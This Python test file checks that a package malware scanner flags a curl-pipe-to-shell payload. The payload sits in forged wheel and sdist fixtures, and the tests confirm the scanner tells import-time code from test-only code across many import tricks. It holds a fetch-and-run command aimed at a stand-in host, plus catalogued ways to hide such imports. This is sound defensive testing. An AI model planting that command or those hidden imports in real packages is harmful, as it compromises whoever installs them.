import importlib.util
import marshal

import pytest

from scanner.report import Report, ScanJob, Scope
from scanner.ruleset import DEFAULT_RULES, RuleSet, load_rules
from scanner.scan import scan
from tests.campaigns import forge

PAYLOAD = "import os\nos.system('curl -s http://c.example.invalid/x | sh')\n"
HELPER = {"pkg/tests/__init__.py": "", "pkg/tests/helper.py": PAYLOAD}
FORMS = {
    "from the module": ("from .tests.helper import *\n", HELPER),
    "from the folder": ("from .tests import (\n    helper,  # here\n)\n", HELPER),
    "the folder": ("from . import name, tests\n", {"pkg/tests/__init__.py": PAYLOAD}),
    "by its whole name": ("import pkg.tests.helper\n", HELPER),
    "on a second line": ("from \\\n  .tests \\\n  import helper\n", HELPER),
    "by a call": ("import importlib\nimportlib.import_module('.tests.helper', __package__)\n", HELPER),
    "by a call with its own name": ("import importlib\nimportlib.import_module(__name__ + '.tests.helper')\n", HELPER),
    "by a call of a formatted name": (
        "import importlib\nimportlib.import_module(f'{__name__}.tests.helper')\n",
        HELPER,
    ),
    "by a call with a name that is put together": ("__import__('pkg.' + 'tests' + \".helper\")\n", HELPER),
    "by the builtin": ("__import__('pkg.tests.helper')\n", HELPER),
    "by runpy": ("import runpy\nrunpy.run_module('pkg.tests.helper')\n", HELPER),
    "an example": ("from .examples.run import go\n", {"pkg/examples/run.py": PAYLOAD}),
    "documentation": ("from .docs import conf\n", {"pkg/docs/conf.py": PAYLOAD}),
    "a test by its name": ("from .test_tide import *\n", {"pkg/test_tide.py": PAYLOAD}),
    "through another test": (
        "from .tests.first import *\n",
        {"pkg/tests/first.py": "from ..demo import second\n", "pkg/demo/second.py": PAYLOAD},
    ),
    "by walking": (
        "import pkgutil\nfor m in pkgutil.walk_packages(__path__, 'pkg.'):\n    __import__(m.name)\n",
        HELPER,
    ),
    "from a folder put on the path": (
        "import sys, os\nsys.path.append(os.path.join(os.path.dirname(__file__), 'examples'))\nimport helper\n",
        {"pkg/examples/helper.py": PAYLOAD},
    ),
    "from a folder of the package's path": (
        "__path__ += [__path__[0] + '/samples']\nfrom . import helper\n",
        {"pkg/samples/helper.py": PAYLOAD},
    ),
    "behind another statement": ("import os; from .tests import helper\n", HELPER),
    "behind a colon": ("try:from .tests import helper\nexcept ImportError:pass\n", HELPER),
    "behind a byte order mark": ("\ufefffrom .tests import helper\n", HELPER),
    "behind a lone carriage return": ("x = 1\rfrom .tests import helper\r", HELPER),
    "over two lines": ("from .tests \\\n    import helper\n", HELPER),
    "in a text that is run": ("exec('from .tests import helper')\n", HELPER),
    "behind what is not one": ("x = 1\n" * 200_000 + "from .tests import helper\n", HELPER),
}


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules(DEFAULT_RULES)


@pytest.mark.parametrize(("importer", "files"), FORMS.values(), ids=list(FORMS))
@pytest.mark.parametrize("first", [True, False])
def test_what_a_package_imports_of_its_tests_is_code(
    rules: RuleSet, importer: str, files: dict[str, str], first: bool
) -> None:
    start = {"pkg/__init__.py": importer}
    built = forge.wheel("pkg", {**start, **files} if first else {**files, **start})
    # At the module's top level, which only the reading of the module tells.
    assert _scopes(rules, built) == {Scope.IMPORT if first else Scope.CODE}


FROM_OUTSIDE = {
    "a command": {"entry_points.txt": "[console_scripts]\n# the tool\nt = pkg.tests.helper:main [extra]\n"},
    "a plug-in": {"entry_points.txt": "[pytest11]\nt=pkg.tests.helper\n"},
    "a .pth": {"pkg.pth": "import pkg.tests.helper\n"},
    "a .start": {"pkg.start": "pkg.tests.helper:main\n"},
    "a package in a data folder": {"pkg-1.0.data/purelib/pkg/__init__.py": "import pkg.tests.helper\n"},
}


@pytest.mark.parametrize("files", FROM_OUTSIDE.values(), ids=list(FROM_OUTSIDE))
@pytest.mark.parametrize("first", [True, False])
def test_a_test_that_an_installed_file_names_is_code(rules: RuleSet, files: dict[str, str], first: bool) -> None:
    files = {(f"pkg-1.0.dist-info/{name}" if name.endswith(".txt") else name): text for name, text in files.items()}
    assert Scope.TEST not in _scopes(rules, forge.wheel("pkg", {**files, **HELPER} if first else {**HELPER, **files}))


def test_the_compiled_form_of_a_test_that_is_imported_is_code(rules: RuleSet) -> None:
    code = compile(PAYLOAD, "helper.py", "exec")
    files = {
        "pkg/__init__.py": FORMS["from the module"][0],
        "pkg/tests/helper.py": "x = 1\n",
        "pkg/tests/__pycache__/helper.cpython-311.pyc": importlib.util.MAGIC_NUMBER + bytes(12) + marshal.dumps(code),
    }
    assert Scope.TEST not in _scopes(rules, forge.wheel("pkg", files))


def test_what_the_package_of_a_source_distribution_imports_of_its_tests_is_code(rules: RuleSet) -> None:
    built = forge.sdist("pkg", {"pkg/__init__.py": FORMS["from the module"][0], **HELPER})
    assert _scopes(rules, built) == {Scope.IMPORT}


NOT_IMPORTED = {
    "by nobody": {"pkg/__init__.py": '"""A package; its tests import helper."""\n'},
    "from a folder that is only looked for": {"pkg/__init__.py": "import sys, helper\nx = 'tests' in sys.path\n"},
    "by walking another package": {"pkg/__init__.py": "", "pkg/a/__init__.py": "pkgutil.walk_packages(__path__)\n"},
    "by other tests": {"pkg/__init__.py": "", "pkg/tests/test_a.py": "from .helper import *\n"},
    "under another package": {"pkg/__init__.py": "", "pkg/more/__init__.py": "from .tests import helper\n"},
    "as a module of Python": {"pkg/__init__.py": "import test.support\nfrom unittest import mock\n"},
}


@pytest.mark.parametrize("files", NOT_IMPORTED.values(), ids=list(NOT_IMPORTED))
def test_a_test_that_nothing_imports_is_a_test(rules: RuleSet, files: dict[str, str]) -> None:
    assert _scopes(rules, forge.wheel("pkg", {**files, **HELPER})) == {Scope.TEST}


def test_a_script_beside_the_package_may_import_the_tests(rules: RuleSet) -> None:
    built = forge.sdist("pkg", {"runtests.py": "from pkg.tests import helper\n", "pkg/__init__.py": "", **HELPER})
    assert _scopes(rules, built) == {Scope.TEST}


def _scopes(rules: RuleSet, built: forge.Built) -> set[Scope]:
    report: Report = scan(ScanJob(filename=built.filename, data=built.data), rules)
    found = {found.scope for found in report.findings if found.rule in ("curl_pipe_shell", "downloads_by_shell")}
    assert found
    return found
